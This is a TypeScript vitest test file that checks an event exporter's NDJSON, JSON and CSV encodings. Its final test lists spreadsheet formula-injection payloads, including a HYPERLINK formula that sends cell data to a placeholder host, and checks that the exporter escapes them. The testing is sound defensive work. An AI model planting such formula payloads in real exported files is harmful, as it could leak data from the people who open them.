import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { EXPORT_ENCODINGS } from './event.export.js';
import { EXPORT_HEADER } from './event.columns.js';

const rows = (events: readonly object[]): Readable =>
  Readable.from(events.map((event) => ({ event: JSON.stringify(event) })));

describe('export encodings', () => {
  it.each([
    ['ndjson', [{ a: 1 }, { b: 2 }], '{"a":1}\n{"b":2}\n'],
    ['ndjson', [], ''],
    ['json', [{ a: 1 }, { b: 2 }], '[{"a":1},\n{"b":2}]\n'],
    ['json', [], '[]\n'],
  ] as const)('writes %s of %j as %j', async (format, events, expected) => {
    const body = await text(rows(events).pipe(EXPORT_ENCODINGS[format].encoder()));
    expect(body).toBe(expected);
    if (format === 'json') expect(JSON.parse(body)).toEqual(events);
  });

  it('writes RFC 4180 CSV with a header row, quoting commas, quotes and line breaks', async () => {
    const record = Object.fromEntries(EXPORT_HEADER.map((name) => [name, name]));
    const tricky = { ...record, model: 'gpt, "4o"\nmini' };
    const body = await text(Readable.from([record, tricky]).pipe(EXPORT_ENCODINGS.csv.encoder()));
    expect(body.split('\r\n')[0]).toBe(EXPORT_HEADER.join(','));
    const parsed = parse(body, { columns: true }) as Record<string, string>[];
    expect(parsed).toEqual([record, tricky]);
  });

  it.each(['=HYPERLINK("http://x/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\tcmd'])(
    'keeps a spreadsheet from running the client-chosen cell %j as a formula',
    async (model) => {
      const record = {
        ...Object.fromEntries(EXPORT_HEADER.map((name) => [name, name])),
        requested_model: model,
      };
      const body = await text(Readable.from([record]).pipe(EXPORT_ENCODINGS.csv.encoder()));
      const [parsed] = parse(body, { columns: true }) as Record<string, string>[];
      expect(parsed?.requested_model).toBe(`'${model}`);
    },
  );
});
